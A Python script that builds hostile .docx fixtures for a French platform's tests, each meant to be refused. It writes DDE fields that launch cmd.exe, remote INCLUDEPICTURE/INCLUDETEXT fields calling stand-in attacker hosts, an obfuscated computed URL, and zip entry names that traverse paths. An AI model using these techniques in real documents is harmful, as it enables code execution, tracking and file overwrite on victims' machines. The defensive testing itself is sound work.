"""Builds the hostile .docx files of this folder: small documents that carry active or remote content, or zip
entry names that climb out of the archive. Made for the platform's tests (each one must be refused, with its
French reason, by the stamping of cahiers des charges); none comes from a real document.

    .venv/bin/python tests/corpus/docx/hostile/build.py    # rewrites the files next to this script

Written with zipfile alone (no python-docx), so that each file holds only what its case needs. The tests read
the committed files and check that they still hold what this script builds (README.md says what each is).
"""

import io
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path

FOLDER = Path(__file__).resolve().parent
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
WML = "application/vnd.openxmlformats-officedocument.wordprocessingml"
DATE = (2026, 1, 1, 0, 0, 0)


@dataclass(frozen=True)
class CorpusFile:
    name: str
    code: str  # the refusal's code; empty for a file that is accepted (with a warning)
    message: str  # a fragment of the French refusal or warning
    build: object  # () -> bytes


def xml(body: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{body}'


def paragraph(inner: str) -> str:
    return f"<w:p>{inner}</w:p>"


def text_run(text: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{text}</w:t></w:r>'


def complex_field(*instruction: str, result: str = "") -> str:
    """A complex field whose instruction is split over several runs, as Word does after an edit."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>' for part in instruction)
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'{text_run(result)}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def simple_field(instruction: str, result: str = "") -> str:
    instruction = instruction.replace("&", "&amp;").replace('"', "&quot;")
    return f'<w:fldSimple w:instr="{instruction}">{text_run(result)}</w:fldSimple>'


# The parts a field may hide in: (part name, root element, relationship type, content type).
PARTS = {
    "header": ("word/header1.xml", "w:hdr", "header", f"{WML}.header+xml"),
    "footer": ("word/footer1.xml", "w:ftr", "footer", f"{WML}.footer+xml"),
    "footnotes": ("word/footnotes.xml", "w:footnotes", "footnotes", f"{WML}.footnotes+xml"),
    "endnotes": ("word/endnotes.xml", "w:endnotes", "endnotes", f"{WML}.endnotes+xml"),
    "comments": ("word/comments.xml", "w:comments", "comments", f"{WML}.comments+xml"),
}


def docx(
    body: str = "",
    *,
    parts: dict[str, str] | None = None,
    relationships: str = "",
    extra: list[tuple[str, bytes]] | None = None,
    package_relationships: str = "",
    content_types: str = "",
) -> bytes:
    """A minimal document: `body` inside w:body, and `parts` (keys of PARTS: their inner XML) wired to it."""
    parts = parts or {}
    rels = [
        f'<Relationship Id="rId{index}" Type="{R}/{PARTS[key][2]}" Target="{PARTS[key][0][5:]}"/>'
        for index, key in enumerate(parts, start=1)
    ]
    references = "".join(
        f'<w:{key}Reference w:type="default" r:id="rId{index}"/>'
        for index, key in enumerate(parts, start=1)
        if key in {"header", "footer"}
    )
    if "footnotes" in parts:
        body += paragraph(text_run("Voir la note.") + '<w:r><w:footnoteReference w:id="1"/></w:r>')
    if "endnotes" in parts:
        body += paragraph(text_run("Voir la note de fin.") + '<w:r><w:endnoteReference w:id="1"/></w:r>')
    if "comments" in parts:
        body += paragraph(
            '<w:commentRangeStart w:id="0"/>' + text_run("Article commenté.") + '<w:commentRangeEnd w:id="0"/>'
            '<w:r><w:commentReference w:id="0"/></w:r>'
        )
    document = xml(
        f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>'
        f"{paragraph(text_run('Article 1. Objet du marché'))}{body}"
        f"<w:sectPr>{references}</w:sectPr></w:body></w:document>"
    )
    overrides = "".join(f'<Override PartName="/{PARTS[key][0]}" ContentType="{PARTS[key][3]}"/>' for key in parts)
    entries = [
        (
            "[Content_Types].xml",
            xml(
                f'<Types xmlns="{CT}">'
                f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                '<Default Extension="xml" ContentType="application/xml"/>'
                f'{content_types}<Override PartName="/word/document.xml" ContentType="{WML}.document.main+xml"/>'
                f"{overrides}</Types>"
            ),
        ),
        (
            "_rels/.rels",
            xml(
                f'<Relationships xmlns="{PKG}"><Relationship Id="rId1" Type="{R}/officeDocument" '
                f'Target="word/document.xml"/>{package_relationships}</Relationships>'
            ),
        ),
        ("word/document.xml", document),
        (
            "word/_rels/document.xml.rels",
            xml(f'<Relationships xmlns="{PKG}">{"".join(rels)}{relationships}</Relationships>'),
        ),
    ]
    for key, inner in parts.items():
        name, root, _, _ = PARTS[key]
        if key in {"footnotes", "endnotes"}:
            tag = key[:-1]
            inner = f'<w:{tag} w:id="1"><w:p>{inner}</w:p></w:{tag}>'
        elif key == "comments":
            inner = f'<w:comment w:id="0" w:author="Relecteur"><w:p>{inner}</w:p></w:comment>'
        else:
            inner = f"<w:p>{inner}</w:p>"
        entries.append((name, xml(f'<{root} xmlns:w="{W}" xmlns:r="{R}">{inner}</{root}>')))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(zipfile.ZipInfo(name, date_time=DATE), content.encode("utf-8"), zipfile.ZIP_DEFLATED)
        for name, content in extra or []:
            # ZipInfo keeps the name as given: "../", "/", "C:\" and backslashes go into the archive as they are.
            archive.writestr(zipfile.ZipInfo(name, date_time=DATE), content, zipfile.ZIP_DEFLATED)
    return output.getvalue()


CMD = "c:\\\\windows\\\\system32\\\\cmd.exe"

REFUSED = [
    CorpusFile(
        "dde-corps.docx",
        "dde_field",
        "champ «\u00a0DDEAUTO\u00a0» (dans le corps du document)",
        lambda: docx(paragraph(complex_field(" DD", "EAUTO ", f'{CMD} "/k calc.exe"', result="Chargement"))),
    ),
    CorpusFile(
        "dde-en-tete.docx",
        "dde_field",
        "champ «\u00a0DDE\u00a0» (dans un en-tête)",
        lambda: docx(parts={"header": simple_field(f'DDE {CMD} "/k calc.exe"', "Titre")}),
    ),
    CorpusFile(
        "dde-commentaires.docx",
        "dde_field",
        "champ «\u00a0DDEAUTO\u00a0» (dans les commentaires)",
        lambda: docx(parts={"comments": complex_field(" ddeauto ", f'{CMD} "/k calc.exe"')}),
    ),
    CorpusFile(
        "includepicture-pied-de-page.docx",
        "remote_field",
        "champ «\u00a0INCLUDEPICTURE\u00a0» (dans un pied de page) qui va chercher «\u00a0http://traceur.example/pixel.png\u00a0»",
        lambda: docx(
            parts={
                "footer": complex_field(' INCLUDEPICTURE  "http://traceur.', 'example/pixel.png" \\* MERGEFORMATINET ')
            }
        ),
    ),
    CorpusFile(
        "includetext-notes.docx",
        "remote_field",
        "champ «\u00a0INCLUDETEXT\u00a0» (dans les notes de bas de page) qui va chercher "
        "«\u00a0https://attaquant.example/texte.docx\u00a0»",
        lambda: docx(parts={"footnotes": simple_field(' INCLUDETEXT "https://attaquant.example/texte.docx" ')}),
    ),
    CorpusFile(
        "includepicture-partage-reseau.docx",
        "remote_field",
        "champ «\u00a0INCLUDEPICTURE\u00a0» (dans les notes de fin) qui va chercher "
        "«\u00a0\\\\\\\\attaquant.example\\\\partage\\\\image.png\u00a0»",
        lambda: docx(
            parts={
                "endnotes": complex_field(' INCLUDEPICTURE "\\\\\\\\attaquant.example\\\\partage\\\\image.png" \\d ')
            }
        ),
    ),
    CorpusFile(
        "includepicture-adresse-calculee.docx",
        "remote_field",
        "champ «\u00a0INCLUDEPICTURE\u00a0» (dans le corps du document) qui va chercher une adresse calculée par un "
        "autre champ",
        lambda: docx(
            paragraph(
                '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                '<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "</w:instrText></w:r>'
                + complex_field(" QUOTE 104 116 116 112 58 47 47 ", result="http://")
                + '<w:r><w:instrText xml:space="preserve">traceur.example/pixel.png" </w:instrText></w:r>'
                '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
            )
        ),
    ),
    CorpusFile(
        "image-adresse-sans-mode-externe.docx",
        "external_relationship",
        "(image\u00a0: «\u00a0http://traceur.example/pixel-interne.png\u00a0»)",
        lambda: docx(
            relationships=f'<Relationship Id="rIdX1" Type="{R}/image" Target="http://traceur.example/pixel-interne.png"/>'
        ),
    ),
    CorpusFile(
        "zip-remonte.docx",
        "unsafe_entry_name",
        "nom dangereux («\u00a0../../evasion.txt\u00a0»)",
        lambda: docx(extra=[("../../evasion.txt", b"hors de l'archive")]),
    ),
    CorpusFile(
        "zip-chemin-absolu.docx",
        "unsafe_entry_name",
        "nom dangereux («\u00a0/tmp/evasion.txt\u00a0»)",
        lambda: docx(extra=[("/tmp/evasion.txt", b"chemin absolu")]),
    ),
    CorpusFile(
        "zip-lecteur-windows.docx",
        "unsafe_entry_name",
        "nom dangereux («\u00a0C:\\Windows\\evasion.txt\u00a0»)",
        lambda: docx(extra=[("C:\\Windows\\evasion.txt", b"lecteur Windows")]),
    ),
    CorpusFile(
        "zip-antislash.docx",
        "unsafe_entry_name",
        "nom dangereux («\u00a0word\\..\\..\\evasion.txt\u00a0»)",
        lambda: docx(extra=[("word\\..\\..\\evasion.txt", b"antislash")]),
    ),
]

SIGNATURE = "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature"
ACCEPTED_WITH_WARNING = [
    CorpusFile(
        "signe.docx",
        "",
        "Ce document porte une signature électronique",
        lambda: docx(
            package_relationships=(
                f'<Relationship Id="rIdSig" Type="{SIGNATURE}/origin" Target="_xmlsignatures/origin.sigs"/>'
            ),
            content_types=(
                '<Default Extension="sigs" '
                'ContentType="application/vnd.openxmlformats-package.digital-signature-origin"/>'
                '<Override PartName="/_xmlsignatures/sig1.xml" '
                'ContentType="application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml"/>'
            ),
            extra=[
                ("_xmlsignatures/origin.sigs", b""),
                (
                    "_xmlsignatures/_rels/origin.sigs.rels",
                    xml(
                        f'<Relationships xmlns="{PKG}"><Relationship Id="rId1" Type="{SIGNATURE}/signature" '
                        'Target="sig1.xml"/></Relationships>'
                    ).encode(),
                ),
                (
                    "_xmlsignatures/sig1.xml",
                    xml('<Signature xmlns="http://www.w3.org/2000/09/xmldsig#" Id="signature-de-test"/>').encode(),
                ),
            ],
        ),
    ),
]

ALL = REFUSED + ACCEPTED_WITH_WARNING


def main() -> None:
    for case in ALL:
        (FOLDER / case.name).write_bytes(case.build())
        print(f"{case.name} : {case.code or 'accepté avec un avertissement'}")


if __name__ == "__main__":
    sys.exit(main())
